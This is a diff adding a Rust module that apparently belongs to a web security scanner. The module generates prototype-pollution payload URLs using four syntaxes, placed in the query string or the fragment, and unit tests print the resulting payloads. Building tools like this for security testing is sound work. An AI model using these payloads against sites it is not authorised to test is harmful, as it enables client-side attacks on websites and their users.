@@ -0,0 +1,179 @@
+use serde::{Deserialize, Serialize};
+use url::form_urlencoded::byte_serialize;
+
+/// Syntax used to pollute the prototype through the URL
+#[derive(Serialize, Deserialize, Clone, Copy, Debug)]
+#[serde(rename_all = "snake_case")]
+pub enum PayloadTechnique {
+    /// `__proto__[key]=value`
+    ProtoBrackets,
+    /// `constructor[prototype][key]=value`
+    ConstructorPrototype,
+    /// `__proto__.key=value`
+    ProtoDot,
+    /// `{"__proto__":{"key":"value"}}`
+    Json,
+}
+
+impl PayloadTechnique {
+    pub const ALL: [PayloadTechnique; 4] = [
+        Self::ProtoBrackets,
+        Self::ConstructorPrototype,
+        Self::ProtoDot,
+        Self::Json,
+    ];
+
+    /// The payload, percent-encoded so that it can be put in a query string or a
+    /// fragment as is. Only the key, the value and the JSON document are encoded,
+    /// the syntax of the other techniques is kept as the parsers expect it.
+    fn payload(&self, key: &str, value: &str) -> String {
+        let encode = |s: &str| byte_serialize(s.as_bytes()).collect::<String>();
+        match self {
+            Self::ProtoBrackets => format!("__proto__[{}]={}", encode(key), encode(value)),
+            Self::ConstructorPrototype => {
+                format!("constructor[prototype][{}]={}", encode(key), encode(value))
+            }
+            Self::ProtoDot => format!("__proto__.{}={}", encode(key), encode(value)),
+            Self::Json => encode(&serde_json::json!({ "__proto__": { key: value } }).to_string()),
+        }
+    }
+}
+
+/// Part of the URL the payload is placed in
+#[derive(Serialize, Deserialize, Clone, Copy, Debug)]
+#[serde(rename_all = "snake_case")]
+pub enum PayloadPlacement {
+    Query,
+    Fragment,
+}
+
+impl PayloadPlacement {
+    pub const ALL: [PayloadPlacement; 2] = [Self::Query, Self::Fragment];
+}
+
+/// Build the URL to visit in order to pollute `key` with `value` using the given technique.
+/// Any existing fragment of the URL is replaced, while an existing query string is kept.
+pub fn gen_payload_url(
+    url: &str,
+    technique: PayloadTechnique,
+    placement: PayloadPlacement,
+    key: &str,
+    value: &str,
+) -> String {
+    let url = match url.split_once('#') {
+        Some((url, _fragment)) => url,
+        None => url,
+    };
+    let payload = technique.payload(key, value);
+
+    match placement {
+        PayloadPlacement::Query if url.contains('?') => format!("{}&{}", url, payload),
+        PayloadPlacement::Query => format!("{}?{}", url, payload),
+        PayloadPlacement::Fragment => format!("{}#{}", url, payload),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn payload_url(url: &str, technique: PayloadTechnique, placement: PayloadPlacement) -> String {
+        gen_payload_url(url, technique, placement, "key", "0xEFFACED")
+    }
+
+    #[test]
+    fn proto_brackets() {
+        let technique = PayloadTechnique::ProtoBrackets;
+        assert_eq!(
+            payload_url("https://example.com/", technique, PayloadPlacement::Query),
+            "https://example.com/?__proto__[key]=0xEFFACED"
+        );
+        assert_eq!(
+            payload_url(
+                "https://example.com/",
+                technique,
+                PayloadPlacement::Fragment
+            ),
+            "https://example.com/#__proto__[key]=0xEFFACED"
+        );
+    }
+
+    #[test]
+    fn constructor_prototype() {
+        let technique = PayloadTechnique::ConstructorPrototype;
+        assert_eq!(
+            payload_url("https://example.com/", technique, PayloadPlacement::Query),
+            "https://example.com/?constructor[prototype][key]=0xEFFACED"
+        );
+        assert_eq!(
+            payload_url(
+                "https://example.com/",
+                technique,
+                PayloadPlacement::Fragment
+            ),
+            "https://example.com/#constructor[prototype][key]=0xEFFACED"
+        );
+    }
+
+    #[test]
+    fn proto_dot() {
+        let technique = PayloadTechnique::ProtoDot;
+        assert_eq!(
+            payload_url("https://example.com/", technique, PayloadPlacement::Query),
+            "https://example.com/?__proto__.key=0xEFFACED"
+        );
+        assert_eq!(
+            payload_url(
+                "https://example.com/",
+                technique,
+                PayloadPlacement::Fragment
+            ),
+            "https://example.com/#__proto__.key=0xEFFACED"
+        );
+    }
+
+    #[test]
+    fn json() {
+        let technique = PayloadTechnique::Json;
+        let payload = "%7B%22__proto__%22%3A%7B%22key%22%3A%220xEFFACED%22%7D%7D";
+        assert_eq!(
+            payload_url("https://example.com/", technique, PayloadPlacement::Query),
+            format!("https://example.com/?{}", payload)
+        );
+        assert_eq!(
+            payload_url(
+                "https://example.com/",
+                technique,
+                PayloadPlacement::Fragment
+            ),
+            format!("https://example.com/#{}", payload)
+        );
+    }
+
+    #[test]
+    fn key_and_value_are_encoded() {
+        assert_eq!(
+            gen_payload_url(
+                "https://example.com/",
+                PayloadTechnique::ProtoBrackets,
+                PayloadPlacement::Query,
+                "a&b#c",
+                "x y"
+            ),
+            "https://example.com/?__proto__[a%26b%23c]=x+y"
+        );
+    }
+
+    #[test]
+    fn existing_query_is_kept_and_fragment_replaced() {
+        let url = "https://example.com/page?lang=en#section";
+        assert_eq!(
+            payload_url(url, PayloadTechnique::ProtoDot, PayloadPlacement::Query),
+            "https://example.com/page?lang=en&__proto__.key=0xEFFACED"
+        );
+        assert_eq!(
+            payload_url(url, PayloadTechnique::ProtoDot, PayloadPlacement::Fragment),
+            "https://example.com/page?lang=en#__proto__.key=0xEFFACED"
+        );
+    }
+}